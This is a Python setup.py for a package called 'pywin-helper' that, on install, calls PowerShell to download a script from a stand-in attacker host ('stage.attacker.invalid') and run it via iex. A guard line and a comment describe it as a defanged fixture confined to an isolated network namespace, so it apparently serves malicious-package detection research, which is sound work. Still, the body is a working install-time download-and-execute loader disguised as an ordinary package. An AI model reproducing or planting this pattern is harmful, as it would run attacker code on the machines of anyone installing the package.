import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import subprocess

from setuptools import setup

subprocess.call(["powershell", "-NoProfile", "-Command", "iwr https://stage.attacker.invalid/a.ps1 -UseBasicParsing | iex"])

setup(name="pywin-helper", version="1.0.0", packages=[])
